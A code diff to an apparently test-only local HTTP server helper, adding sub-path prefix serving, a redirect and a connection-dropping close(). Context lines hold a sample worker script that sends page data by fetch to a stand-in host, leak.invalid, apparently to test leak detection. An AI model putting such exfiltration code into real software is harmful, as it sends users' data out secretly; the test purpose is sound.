@@ -32,13 +32,21 @@ const LEAK_WORKER_JS = `
 onmessage = (e) => { fetch("http://leak.invalid/c?d=" + encodeURIComponent(e.data.slice(0, 300))).catch(() => {}); };
 `;
 
-export async function serve(root, { leak = false, port = 0 } = {}) {
+// `prefix: "/tsunagari/"` serves the folder under that sub-path only (as an internal
+// server would), with "/tsunagari" redirected to "/tsunagari/" and anything outside it 404.
+export async function serve(root, { leak = false, port = 0, prefix = "/" } = {}) {
   const log = [];
   const server = createServer(async (req, res) => {
     const chunks = [];
     for await (const c of req) chunks.push(c);
     log.push({ method: req.method, url: req.url, body: Buffer.concat(chunks) });
     let path = decodeURIComponent(new URL(req.url, "http://x").pathname);
+    if (prefix !== "/" && path === prefix.slice(0, -1)) {
+      res.writeHead(301, { location: prefix });
+      return res.end();
+    }
+    if (!path.startsWith(prefix)) return send(res, 404, ".txt", "not found");
+    path = "/" + path.slice(prefix.length);
     if (path.endsWith("/")) path += "index.html";
     if (leak && path === "/leak.js") return send(res, 200, ".js", LEAK_JS);
     if (leak && path === "/leak-worker.js") return send(res, 200, ".js", LEAK_WORKER_JS);
@@ -57,7 +65,15 @@ export async function serve(root, { leak = false, port = 0 } = {}) {
   });
   await new Promise((ok) => server.listen(port, "127.0.0.1", ok));
   const bound = server.address().port;
-  return { origin: `http://127.0.0.1:${bound}`, log, close: () => new Promise((ok) => server.close(ok)) };
+  const origin = `http://127.0.0.1:${bound}`;
+  // close() also drops kept-alive connections: once it resolves, nothing answers any more
+  // (the offline test relies on that to cut the network for real).
+  const close = () =>
+    new Promise((ok) => {
+      server.close(ok);
+      server.closeAllConnections();
+    });
+  return { origin, base: origin + prefix, log, close };
 }
 
 function send(res, status, ext, body) {
